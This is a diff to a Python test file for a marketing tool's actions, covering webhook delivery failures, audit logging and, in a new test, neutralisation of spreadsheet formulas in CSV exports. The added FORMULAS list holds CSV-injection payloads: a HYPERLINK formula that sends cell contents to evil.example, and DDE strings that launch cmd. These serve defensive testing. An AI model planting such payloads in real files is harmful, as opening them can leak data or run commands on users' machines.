@@ -1,7 +1,10 @@
-"""Actions run exactly once per approved request, exclude non-consenting customers, and deliver to a webhook."""
+"""Actions run exactly once per approved request, exclude non-consenting customers, deliver to a webhook, and
+export files that carry no formulas."""
 
+import csv
 import json
 import threading
+from datetime import datetime
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import pytest
@@ -9,6 +12,7 @@ import pytest
 from tests.agent.conftest import seed_churn_run
 from tools.actions.audiences import AudienceParams, create_audience
 from tools.actions.budgets import BudgetChange, update_budget
+from tools.actions.sends import ScheduleParams, schedule_campaign
 from tools.registry import ToolContext, ToolError
 from tools.warehouse import connect
 
@@ -64,10 +68,14 @@ def test_webhook_failure_is_recorded_and_outbox_stays_consistent(demo_copy):
     seed_churn_run(demo_copy)
     hook = Hook([400])
     con = connect(demo_copy / "warehouse.duckdb")
-    create_audience(con, AudienceParams(name="Rejected by hook"), _ctx(demo_copy, webhook_url=hook.url))
+    res = create_audience(con, AudienceParams(name="Rejected by hook"), _ctx(demo_copy, webhook_url=hook.url))
     status, error = con.execute("SELECT status, last_error FROM outbox").fetchone()
-    assert status == "failed" and "400" in error
+    assert status == "dead" and "400" in error and res.metrics["delivery"] == "failed"
     assert con.execute("SELECT count(*) FROM audiences").fetchone()[0] == 1  # the action itself stands
+    audited = con.execute("SELECT name, args, outcome, detail FROM audit_log WHERE kind = 'delivery'").fetchall()
+    assert [(n, json.loads(a), o) for n, a, o, _ in audited] == [
+        ("create_audience", {"action_id": res.action_id, "attempt": 1}, "dead")]
+    assert "HTTP 400" in audited[0][3]
 
 
 def test_budget_bound_and_failed_action_leaves_no_trace(demo_copy):
@@ -76,3 +84,37 @@ def test_budget_bound_and_failed_action_leaves_no_trace(demo_copy):
         update_budget(con, BudgetChange(daily_budgets={"search": 1e6}), _ctx(demo_copy))
     assert con.execute("SELECT count(*) FROM outbox").fetchone()[0] == 0
     assert con.execute("SELECT count(*) FROM budget_plans").fetchone()[0] == 0
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\uff1dSUM(A1)"]
+
+
+def _cells(path) -> dict[int, str]:
+    with open(path, newline="") as fh:
+        return {int(row[0]): row[1] for row in list(csv.reader(fh))[1:]}
+
+
+def test_exports_carry_no_formulas(demo_copy):
+    """Finding 7: customer fields that begin like a formula are neutralised (OWASP): a leading ' and quotes."""
+    con = connect(demo_copy / "warehouse.duckdb")
+    ids = [r[0] for r in con.execute("""SELECT c.customer_id FROM customers c JOIN consent s USING (customer_id)
+        WHERE c.marketing_opt_in AND s.channel = 'sms' AND s.opted_in ORDER BY 1 LIMIT ?""",
+                                     [len(FORMULAS) + 1]).fetchall()]
+    evil, plain = ids[:-1], ids[-1]
+    con.executemany("UPDATE customers SET email = ?, phone = ? WHERE customer_id = ?",
+                    [[f, f, i] for f, i in zip(FORMULAS, evil, strict=True)])
+    con.execute("UPDATE customers SET email = 'ana@example.com', phone = '07700 900123' WHERE customer_id = ?",
+                [plain])
+    res = create_audience(con, AudienceParams(name="Formulas", source="customers", customer_ids=ids),
+                          _ctx(demo_copy))
+    export = demo_copy / "outbox" / f"audience_{res.action_id}.csv"
+    cells = _cells(export)
+    assert cells == {**{i: "'" + f for f, i in zip(FORMULAS, evil, strict=True)}, plain: "ana@example.com"}
+    raw = export.read_bytes().decode()  # every text field quoted (quotes inside doubled)
+    assert all('"' + ("'" + f).replace('"', '""') + '"' in raw for f in FORMULAS) and '"ana@example.com"' in raw
+    send = schedule_campaign(con, ScheduleParams(audience="Formulas", channel="sms", holdout_pct=0.0,
+                                                 variant="Fieldhouse: your picks are in. Reply STOP to opt out",
+                                                 send_at=datetime(2026, 10, 5, 9)), _ctx(demo_copy))
+    phones = _cells(demo_copy / "outbox" / send.metrics["export"])
+    assert phones == {**{i: "'" + f for f, i in zip(FORMULAS, evil, strict=True)}, plain: "07700 900123"}
